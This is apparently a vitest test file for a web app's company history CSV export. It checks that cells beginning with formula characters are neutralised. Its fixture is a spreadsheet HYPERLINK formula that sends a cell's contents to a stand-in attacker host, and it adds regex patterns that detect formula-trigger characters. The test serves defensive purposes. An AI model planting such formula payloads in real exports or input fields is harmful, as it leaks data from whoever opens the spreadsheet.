import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testDrivers } from '@fpa/write-model/testing';
import { registration, startTestApp, type TestApp } from './testing.ts';

const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';

/** Issue #27 §4: the company history CSV (written by the server) hands a spreadsheet no formula. */
describe.each(testDrivers())('company history CSV on $name', (driver) => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp(driver);
  });
  afterAll(async () => t?.close());

  it("neutralises a cell that starts with '=' (here the actor's name), and leaves the rest as it was", async () => {
    const registered = await t.request('POST', '/api/register', registration({ firstName: EVIL, lastName: '-Nkosi' }));
    expect(registered.status).toBe(201);
    const token = registered.body.token;
    const created = await t.request(
      'POST',
      '/api/policy-types',
      { name: '@Family', description: 'x', coverageAmount: '30000', monthlyPremium: '250.50', waitingPeriod: 6 },
      { token },
    );
    expect(created.status).toBe(201);
    const csv = await t.app.handle(
      new Request('http://localhost/api/audit/company/events.csv', { headers: { authorization: `Bearer ${token}` } }),
    );
    expect(csv.status).toBe(200);
    const text = await csv.text();
    expect(text).toContain(`"'${EVIL.replaceAll('"', '""')} -Nkosi"`);
    // No cell of any line starts a formula: after a separator (or at a line's start, quoted or not).
    expect(text).not.toMatch(/(^|,|\r\n)"?[=+@\t\r]/);
    expect(text).not.toMatch(/(^|,|\r\n)"?-(?!\d+(\.\d+)?(,|\r\n|$))/);
  });
});
